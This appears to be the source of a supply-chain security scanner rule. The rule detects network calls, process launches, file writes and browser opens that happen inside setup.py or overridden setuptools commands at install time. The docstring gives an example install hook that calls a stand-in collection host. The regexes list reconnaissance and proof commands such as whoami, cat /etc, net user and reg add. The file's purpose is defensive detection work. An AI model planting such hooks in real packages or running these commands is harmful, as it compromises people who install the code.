"""What it sees
    Network requests and unusual processes in a `setup.py`, or in setuptools commands (`install`, `develop`,
    `egg_info`, ...) that a package replaces. Compilers, `git describe`, `pkg-config` and the like are what builds
    need: they are left alone.

Why it matters
    `pip install` of a source distribution runs `setup.py` with the rights of whoever types it.

Example
    class Install(install):
        def run(self):
            urllib.request.urlopen("https://collect.example.test/installed")
            install.run(self)

What to do
    Do not install it from source. Read what the request carries: other findings in the same file say it.

False alarms
    Some builds fetch the sources of a native library: a download that is saved and unpacked is context only.

References
    ATT&CK T1195.001 (Compromise Software Dependencies and Development Tools), T1059.006, T1546.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import (
    PROOF,
    Place,
    Sending,
    beacons,
    command_of,
    defanged,
    is_paste,
    once,
    place,
    sendings,
    short,
    starts_process,
)
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.py_vocabulary import STANDARD_MODULES
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import PythonModule

_REQUEST = N_("calls {address} while it is installed")
_HANDS = N_("hands {address} to {name} while it is installed")
_REQUEST_AWAY = N_("opens a network connection while it is installed")
_PROCESS = N_("starts a program while it is installed: {command}")
_WRITES = N_("writes outside of the package while it is installed: {path}")
_BROWSES = N_("opens a web page while it is installed: {address}")
_INSTALLS = N_("installs further packages while it is installed: {command}")

_BUILD = re.compile(
    r"^\s*['\"]?(?:\S*/)?(?:%\(CC\)s|\$\{?CC\}?|git|hg|svn|cmake|make|gmake|ninja|meson|gcc|g\+\+|cc|c\+\+|clang\S*|nvcc|ld|ar|ranlib|pkg-config|\S*[-_]config(?:\.exe)?|cython\S*|swig|protoc|cargo|rustc"
    r"|maturin|go|node|npm|yarn|pnpm|sphinx-build|pytest|coverage|tox|nox|black|flake8|mypy|xcrun|xcode-select|sw_vers|dpkg\S*|rpm|brew|ldconfig|which|where|uname|nproc|tar|unzip|patch"
    r"|autoconf|automake|libtoolize|\./configure|\./autogen|configure|bash\s+\S*(?:configure|autogen|build)|sh\s+\S*(?:configure|autogen|build)|cl(?:\.exe)?|msbuild|vswhere\S*|lib\.exe|nmake|perl|java|javac|mvn|ant|gradle"
    r"|twine|%PYTHON%\s+(?:-m\s+)?(?:setup\.py|build|pytest|cython|grpc_tools|compileall|numpy|unittest|twine|sphinx)|python\d?\s+setup\.py|cp|mv|rm|mkdir|install_name_tool|otool|strip|readelf|lsb_release|echo)(?:\b|(?<=[)}s])['\"\s])",
    re.IGNORECASE,
)
_PIP = re.compile(r"\bpip\d?\s+install\b|\beasy_install\b|-m\s+pip\b", re.IGNORECASE)
_PROGRAM = re.compile(r"\.(?:scr|bat|vbs|ps1|hta)\b|^start\s|\bTEMP\b|APPDATA|/tmp/", re.IGNORECASE)
_EXECUTABLE = re.compile(r"\.(?:exe|scr|bat|cmd|vbs|ps1|msi|hta|jar)(?:$|[?#])", re.IGNORECASE)
_PROBES = re.compile(
    r"^\s*(?:calc(?:\.exe)?|notepad(?:\.exe)?|mspaint|whoami|id|ls|dir|ifconfig|ipconfig|systeminfo|ps|tasklist|env|printenv|netstat|touch\s|xcalc"
    r"|gnome-calculator|open\s+-a|say\s|cat\s+/etc|net\s+(?:user|localgroup)|net1\s|ping\s|nslookup\s|sudo\s+(?!apt|dnf|yum|make|ldconfig|pip)"
    r"|chmod\s+[0-7+x]{2,4}\s|attrib\s|taskkill|reg\s+add|sc\s+(?:create|start))(?:\s|$|[^\w.-])|>\s*/tmp/\w|>\s*%TEMP%|pwned",
    re.IGNORECASE,
)
"""Commands that look around or prove a point; builds have no use for them."""
_NATIVE = re.compile(
    rb"Extension\(|ext_modules|cffi_modules|rust_extensions|[Cc][Mm]ake|pybind11|cythonize|build_ext|TestCommand|scikit-build"
)
"""Signs of a package that compiles something, or tests itself in old ways."""
_ADDRESS = re.compile(rb"https?://[^\s'\"]{4,100}")
_FETCHES = re.compile(rb"tarfile|zipfile|urlretrieve|\.tar\.|\.zip\b|extractall")
_AROUND = terms(b"tmp", b"Desktop", b"Users", b"home", b"root")


def check(view: PythonModule) -> Iterator[Match | Signal]:
    """Yield requests and processes of an installation, and the signal that an installer runs the file."""
    if view.is_setup:
        yield Signal("start", f"install\t{view.path}", view.path)
    elif b"cmdclass" not in view.blob.data:
        return
    if b"webbrowser" in view.blob.data:
        yield from _browses(view)
    if view.mentions(_AROUND):
        yield from _writes(view)
    if not (view.speaks("net") or view.speaks("process") or _names_paste(view.blob.data)):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        call = sending.call
        if (
            view.phase(call.scope) is not Phase.INSTALL
            or call.aside
            or (sending.how == "command" and sending.place < Place.SHARED)
            or (sending.how == "dns" and sending.place is Place.UNKNOWN)
            or not once(seen, call.line)
        ):
            continue
        severity, confidence = _grade(view, sending)
        yield Match(
            _REQUEST if sending.place else _REQUEST_AWAY,
            call.line,
            call.column,
            params={"address": defanged(sending.address)},
            excerpt=view.quote(call.line),
            severity=severity,
            confidence=confidence,
            phase=Phase.INSTALL,
            layers=call.layers,
        )
    yield from _hands(view, seen)
    for call in view.facts.calls:
        if (
            not starts_process(call)
            or call.aside
            or view.phase(call.scope) is not Phase.INSTALL
            or not once(seen, call.line)
        ):
            continue
        command = command_of(call).strip("\0 ")
        if not command or _BUILD.search(command):
            continue
        params = {"command": short(command)}
        place = {
            "line": call.line,
            "column": call.column,
            "params": params,
            "excerpt": view.quote(call.line),
            "phase": Phase.INSTALL,
            "layers": call.layers,
        }
        if _PIP.search(command):
            yield Match(_INSTALLS, severity=Severity.LOW, confidence=Confidence.MEDIUM, **place)  # type: ignore[arg-type]
        elif PROOF.search(command):
            yield Match(_PROCESS, severity=Severity.HIGH, confidence=Confidence.HIGH, **place)  # type: ignore[arg-type]
        elif _PROGRAM.search(command) or call.name == "os.startfile" or _PROBES.search(command):
            yield Match(_PROCESS, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM, **place)  # type: ignore[arg-type]
        elif "\0" not in command[:8] and not _NATIVE.search(view.blob.data):
            # nothing is built here, and yet a program is started that no build uses
            yield Match(_PROCESS, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM, **place)  # type: ignore[arg-type]
        else:
            yield Match(_PROCESS, severity=Severity.LOW, confidence=Confidence.MEDIUM, **place)  # type: ignore[arg-type]


def _names_paste(data: bytes) -> bool:
    """Tell whether the file names a paste site or a chat's file store."""
    return any(is_paste(found[0].decode("latin-1")) for found in _ADDRESS.finditer(data[: 1 << 18]))


def _hands(view: PythonModule, seen: set[object]) -> Iterator[Match]:
    """Yield addresses of paste sites and catchers that are given to a function of another file."""
    for call in view.facts.calls:
        top = call.name.partition(".")[0]
        if not top or top[0] in "~@<" or "." not in call.name or top in STANDARD_MODULES or call.attr == "setup":
            continue
        for value in (*call.args, *call.kwargs.values()):
            address = value.shape
            if (
                address.startswith(("http://", "https://"))
                and (is_paste(address) or place(address) >= Place.BARE)
                and view.phase(call.scope) is Phase.INSTALL
                and not call.aside
                and once(seen, call.line)
            ):
                yield Match(
                    _HANDS,
                    call.line,
                    call.column,
                    params={"address": defanged(address), "name": short(call.name, 60)},
                    excerpt=view.quote(call.line),
                    severity=Severity.HIGH,
                    confidence=Confidence.HIGH,
                    phase=Phase.INSTALL,
                    layers=call.layers,
                )


_OUTSIDE = re.compile(
    r"^(?:/tmp/|/var/tmp/|/root/|/home/|[A-Za-z]:[\\/]+(?:Users|Windows|temp)[\\/])|[\\/]Desktop[\\/]|^~/\.\w",
    re.IGNORECASE,
)


def _writes(view: PythonModule) -> Iterator[Match]:
    for call in view.facts.calls:
        path = call.arg(0, "file", "name", "path").shape
        writes = call.name in {"open", "io.open"} and (call.arg(1, "mode").text or "r")[:1] in "wax"
        if not (writes or call.name in {"os.mkdir", "os.makedirs"}) or not _OUTSIDE.search(path):
            continue
        if view.phase(call.scope) is Phase.INSTALL:
            yield Match(
                _WRITES,
                call.line,
                call.column,
                params={"path": short(path)},
                excerpt=view.quote(call.line),
                phase=Phase.INSTALL,
                layers=call.layers,
            )
            return


def _browses(view: PythonModule) -> Iterator[Match]:
    for call in view.facts.calls:
        if call.name.startswith("webbrowser.open") and view.phase(call.scope) is Phase.INSTALL:
            yield Match(
                _BROWSES,
                call.line,
                call.column,
                params={"address": defanged(call.arg(0, "url").shape)},
                excerpt=view.quote(call.line),
                phase=Phase.INSTALL,
            )
            return


def _grade(view: PythonModule, sending: Sending) -> tuple[Severity, Confidence]:
    place = sending.place
    if place is Place.LOCAL:
        return Severity.LOW, Confidence.LOW
    if place is Place.DROP:
        return Severity.HIGH, Confidence.HIGH
    if _EXECUTABLE.search(sending.address):
        return Severity.HIGH, Confidence.HIGH if place >= Place.SHARED else Confidence.MEDIUM
    if is_paste(sending.address):
        return Severity.HIGH, Confidence.HIGH
    if sending.how == "dns":  # a build asks for no name of its own
        return (Severity.HIGH, Confidence.HIGH) if beacons(view, sending) else (Severity.MEDIUM, Confidence.MEDIUM)
    if _FETCHES.search(view.blob.data):
        return Severity.LOW, Confidence.MEDIUM
    if place is Place.BARE:
        return Severity.HIGH, Confidence.HIGH
    return Severity.MEDIUM if place else Severity.LOW, Confidence.MEDIUM


RULE = Rule(
    id="py/setup-runs-code",
    title=N_("Acts while it is being installed"),
    view=PythonModule,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.INSTALL,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__ or "",
    techniques=("T1195.001", "T1059.006"),
)
